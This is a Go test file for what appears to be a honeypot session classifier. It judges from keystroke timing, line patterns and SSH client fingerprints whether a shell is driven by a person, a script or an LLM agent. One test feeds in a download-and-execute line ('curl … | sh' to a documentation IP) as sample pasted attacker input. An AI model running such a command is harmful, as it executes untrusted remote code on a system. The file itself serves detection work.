package operator_test

import (
	"math"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"gait"
	"gait/assess/operator"
)

// typed makes a session of keys at gaps, with the echo of each.
func typed(text string, gap func() time.Duration) *gait.Session {
	s := &gait.Session{}
	at := time.Duration(0)
	for i := range len(text) {
		at += gap()
		s.Append(gait.Event{Time: at, Kind: gait.Input, Data: []byte{text[i]}}, -1)
		s.Append(gait.Event{Time: at + 200*time.Microsecond, Kind: gait.Output, Data: []byte{text[i]}}, -1)
	}
	return s
}

// lines makes a session of whole lines that come after output.
func lines(n int, wait func(i int) time.Duration) *gait.Session {
	s := &gait.Session{}
	at := time.Duration(0)
	for i := range n {
		s.Append(gait.Event{Time: at, Kind: gait.Output, Data: []byte("$ ")}, -1)
		at += wait(i)
		s.Append(gait.Event{Time: at, Kind: gait.Input, Data: []byte("uname -a; nproc\r")}, -1)
		at += 10 * time.Millisecond
	}
	return s
}

const prose = "the quick brown fox and the other animals went into the woods to look for something that they had not seen before and then they came home again "

func TestEvenKeysAreAMachine(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	s := typed(prose, func() time.Duration { return 120*time.Millisecond + time.Duration(r.IntN(3000))*time.Microsecond })
	for name, priors := range map[string]operator.Priors{"equal": operator.EqualPriors(), "stated": operator.DefaultPriors()} {
		if v := operator.Shipped().Judge(operator.Read(s, 0), priors); v.Class != operator.Machine {
			t.Errorf("%s priors: %v, want a machine of unknown kind: %+v", name, v.Class, v.Terms)
		}
	}
}

func TestWholeLinesAreAMachine(t *testing.T) {
	s := lines(6, func(int) time.Duration { return 100 * time.Millisecond })
	v := operator.Shipped().Judge(operator.Read(s, 0), operator.EqualPriors())
	if !v.Class.IsMachine() || v.LogLik[operator.Script] <= v.LogLik[operator.Agent] {
		t.Errorf("%v: %+v", v.Class, v.Terms)
	}
}

func TestTooLittleIsUnknown(t *testing.T) {
	for name, s := range map[string]*gait.Session{
		"nothing":   {},
		"two lines": lines(2, func(int) time.Duration { return time.Second }),
		"few keys":  typed("ls -la", func() time.Duration { return 150 * time.Millisecond }),
	} {
		v := operator.Shipped().Judge(operator.Read(s, 0), operator.DefaultPriors())
		if v.Class != operator.Unknown {
			t.Errorf("%s: %v", name, v.Class)
		}
	}
}

func TestAPersonWhoPastes(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	s := typed(prose, func() time.Duration {
		return time.Duration(math.Exp(math.Log(0.17)+0.5*r.NormFloat64()) * float64(time.Second))
	})
	s.Append(gait.Event{Time: s.Last() + time.Second, Kind: gait.Input, Data: []byte("curl -s http://198.51.100.7/a | sh\r")}, -1)
	v := operator.Shipped().Judge(operator.Read(s, 0), operator.EqualPriors())
	if v.LogLik[operator.PersonPasting] <= v.LogLik[operator.Person] {
		t.Errorf("%v: %+v", v.Class, v.Terms)
	}
}

func TestAHeldKeyIsNoRhythm(t *testing.T) {
	s := &gait.Session{}
	at := time.Duration(0)
	for i := range 60 {
		at += 33 * time.Millisecond
		if i == 1 {
			at += 400 * time.Millisecond
		}
		s.Append(gait.Event{Time: at, Kind: gait.Input, Data: []byte{0x7f}}, -1)
	}
	if f := operator.Read(s, 0); f.Gaps > 1 {
		t.Errorf("a held key gave %d gaps of rhythm", f.Gaps)
	}
}

// TestNoTermIsLargerThanItsGroups holds every term to ln(n + 1), whatever the
// numbers are.
func TestNoTermIsLargerThanItsGroups(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	m := operator.Shipped()
	seen := map[string]float64{}
	for range 20_000 {
		e := func() float64 { return math.Exp(6 * r.NormFloat64()) }
		f := operator.Features{
			Acts: r.Int32N(50), Whole: r.Int32N(50), Typed: r.Int32N(300), Gaps: r.Int32N(300), CV: e(), MedianGap: e(),
			Pairs: r.Int32N(300), Slope: r.NormFloat64(), SlopeError: e(), SlopeSpread: e(), Repeat: 5 * r.NormFloat64(), RepeatUnit: e(), Waits: r.Int32N(50), WaitP10: e(), WaitP50: e(), WaitP90: e(),
			LongestIn: e(), MostLines: e(), Shapes: r.Uint64(), Loader: r.Uint32N(2), Client: uint8(r.UintN(4)),
		}
		v := m.Judge(f, operator.DefaultPriors())
		sum := 0.0
		for _, p := range v.Probability {
			if math.IsNaN(p) {
				t.Fatalf("%+v: %v", f, v.Probability)
			}
			sum += p
		}
		if math.Abs(sum-1) > 1e-9 {
			t.Fatalf("probabilities add up to %v", sum)
		}
		for _, x := range v.Terms {
			seen[x.Name] = max(seen[x.Name], x.Amount)
		}
	}
	groups := map[string]map[string]bool{}
	for _, e := range operator.Training() {
		c := e.Class.String()
		if groups[c] == nil {
			groups[c] = map[string]bool{}
		}
		groups[c][e.Group] = true
	}
	all := float64(len(groups["person"]) + len(groups["script"]) + len(groups["llm_agent"]))
	for name, most := range seen {
		limit := math.Log(all + 1)
		switch name {
		case "key_rhythm", "key_pace":
			limit = math.Log(2054)
		case "follows_keys":
			limit = math.Log(1697)
		case "same_keys":
			limit = math.Log(12)
		case "whole_lines":
			limit = math.Log(float64(len(groups["person"])) + 1)
		case "wait_median", "wait_longest", "wait_spread", "most_lines", "longest_line":
			limit = math.Log(float64(len(groups["llm_agent"])) + 1)
		}
		if most > limit+1e-12 {
			t.Errorf("%s reached %.3f nats, at most %.3f are allowed", name, most, limit)
		}
	}
	for _, name := range []string{"whole_lines", "key_rhythm", "key_pace", "follows_keys", "same_keys", "wait_median", "most_lines", "content_01"} {
		if seen[name] == 0 {
			t.Errorf("%s never spoke", name)
		}
	}
}

func TestTrainingRowsAreReadBack(t *testing.T) {
	rows := operator.Training()
	if len(rows) == 0 {
		t.Fatal("no rows")
	}
	for i := range rows {
		again, err := operator.ParseRow(rows[i].Row())
		if err != nil || again != rows[i] {
			t.Fatalf("%s: %v\n%+v\n%+v", rows[i].File, err, again, rows[i])
		}
	}
	for _, bad := range []string{"", "a\tb", "f\tnobody\ts\tg" + "\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0\t0/0\t0\t0/0"} {
		if _, err := operator.ParseRow(bad); err == nil {
			t.Errorf("%q was read", bad)
		}
	}
}

// TestTermsCanBeLeftOut says that a model has the terms it was fitted with.
func TestTermsCanBeLeftOut(t *testing.T) {
	s := lines(5, func(i int) time.Duration { return time.Duration(i+1) * time.Second })
	f := operator.Read(s, 0)
	f.Loader, f.Client = 1, 2
	for use, want := range map[operator.Terms]map[string]bool{
		operator.All:            {"whole_lines": true, "content_11": true, "known_loader": true, "client_library": true},
		operator.TimingAndShape: {"whole_lines": true, "content_11": false, "known_loader": false, "client_library": false},
		operator.Content:        {"whole_lines": false, "content_11": true, "known_loader": false},
		operator.Fingerprints:   {"whole_lines": false, "content_11": false, "known_loader": true},
	} {
		has := map[string]bool{}
		for _, x := range operator.Fit(operator.Training(), use).Judge(f, operator.EqualPriors()).Terms {
			has[x.Name] = true
		}
		for name, there := range want {
			if has[name] != there {
				t.Errorf("terms %b: %s is there: %t", use, name, has[name])
			}
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte("ils\x0a\x00o$ \x05i\r"), uint8(3))
	f.Add([]byte("\xa0l\xa1l\xa2l\xa3l\xa4s\x01ls\xb0 \xb0-\x80a\xb0a\xff\r\x02out\xa0x\xa0y\xa0\x7f\xa0\x03"), uint8(30))
	m := operator.Shipped()
	f.Fuzz(func(t *testing.T, data []byte, step uint8) {
		s := &gait.Session{}
		at := time.Duration(0)
		for i := 0; i < len(data); {
			what := data[i]
			at += time.Duration(what) * time.Duration(step) * time.Millisecond / 8
			kind, size := gait.Kind(what%5)+1, 3
			if what >= 0x80 { // half of all are single keys
				kind, size, i = gait.Input, 1, i+1
			}
			s.Append(gait.Event{Time: at, Kind: kind, Data: data[min(i, len(data)):min(i+size, len(data))]}, -1)
			i += size
		}
		whole := operator.Read(s, 0)
		var r operator.Reader
		r.Reset(0)
		for _, e := range s.Events() {
			r.Feed(e)
			r.Features(false)
		}
		if again := r.Features(true); again != whole {
			t.Fatalf("event by event %+v, at once %+v", again, whole)
		}
		for _, p := range m.Judge(whole, operator.DefaultPriors()).Probability {
			if math.IsNaN(p) {
				t.Fatalf("%+v", whole)
			}
		}
	})
}

func BenchmarkReadAndJudge(b *testing.B) {
	s := lines(200, func(i int) time.Duration { return time.Duration(i%7+1) * 100 * time.Millisecond })
	m := operator.Shipped()
	var r operator.Reader
	b.ReportAllocs()
	for b.Loop() {
		m.Judge(r.Read(s, 0), operator.DefaultPriors())
	}
}

// hand gives the gap before the second of two keys, in seconds, as a made-up
// hand needs it: some pairs are slow, and it varies.
func hand(r *rand.Rand, a, b byte) float64 {
	slow := 0.15 * math.Sin(float64(a)*7+float64(b)*3)
	if b == ' ' {
		slow -= 0.2
	} else if a == ' ' {
		slow += 0.35
	}
	return math.Exp(math.Log(0.18) + slow + 0.35*r.NormFloat64())
}

func TestGapsThatDependOnNoKeyAreAMachine(t *testing.T) {
	r := rand.New(rand.NewPCG(8, 9))
	text := prose + prose
	var gaps []float64
	for i := range len(text) {
		gaps = append(gaps, hand(r, text[(i+len(text)-1)%len(text)], text[i]))
	}
	play := func() operator.Verdict {
		i := 0
		s := typed(text, func() time.Duration { i++; return time.Duration(gaps[i-1] * 1e9) })
		return operator.Shipped().Judge(operator.Read(s, 0), operator.EqualPriors())
	}
	if v := play(); v.Class != operator.Person {
		t.Errorf("a hand: %v, %+v", v.Class, v.Terms)
	}
	r.Shuffle(len(gaps), func(i, j int) { gaps[i], gaps[j] = gaps[j], gaps[i] })
	if v := play(); v.Class != operator.Machine {
		t.Errorf("its gaps in another order: %v, %+v", v.Class, v.Terms)
	}
}

// TestAskedOnTheWay: a reader that is asked after each act says what the session
// says that ends there.
func TestAskedOnTheWay(t *testing.T) {
	s := lines(9, func(i int) time.Duration { return time.Duration(i+1) * 300 * time.Millisecond })
	var r operator.Reader
	r.Reset(0)
	acts := 0
	for _, e := range s.Events() {
		if !r.Feed(e) {
			continue
		}
		acts++
		if got, want := r.Features(false), operator.Read(s, acts); got != want {
			t.Fatalf("after %d acts: %+v, want %+v", acts, got, want)
		}
	}
	if acts != 8 {
		t.Errorf("%d acts became whole on the way", acts)
	}
}

// TestEveryGapIsCounted says that a key struck twice, which a held key begins
// like, costs no gap.
func TestEveryGapIsCounted(t *testing.T) {
	for text, want := range map[string]int32{"abcdef": 5, "aabbccddee ffg": 13, "hello  world": 11, "aaaaaaaaaab": 1} {
		s := typed(text, func() time.Duration { return 120 * time.Millisecond })
		if f := operator.Read(s, 0); f.Gaps != want {
			t.Errorf("%q: %d gaps, want %d", text, f.Gaps, want)
		}
	}
}

// TestClientsAreKnownByTheirKeyExchange says that a version string does not hide
// a library.
func TestClientsAreKnownByTheirKeyExchange(t *testing.T) {
	const goLibrary, openSSH = "16443846184eafde36765c9bab2f4397", "SSH-2.0-OpenSSH_9.6p1"
	for _, c := range []struct{ client, hassh, want string }{
		{openSSH, "", ""},
		{openSSH, strings.Repeat("0", 32), ""},
		{openSSH, goLibrary, "whatever its version says"},
		{"", goLibrary, "whatever its version says"},
		{"SSH-2.0-Go", "", "names a library"},
		{"SSH-2.0-Go", goLibrary, "names a library"},
	} {
		s := lines(5, func(i int) time.Duration { return time.Duration(i+1) * time.Second })
		s.Client, s.HASSH = c.client, c.hassh
		got := ""
		for _, term := range operator.Shipped().Judge(operator.Read(s, 0), operator.EqualPriors()).Terms {
			if term.Name == "client_library" && term.Nats != [operator.Classes]float64{} {
				got = term.Text
			}
		}
		if !strings.Contains(got, c.want) || c.want == "" && got != "" {
			t.Errorf("%q with %q: %q", c.client, c.hassh, got)
		}
	}
}
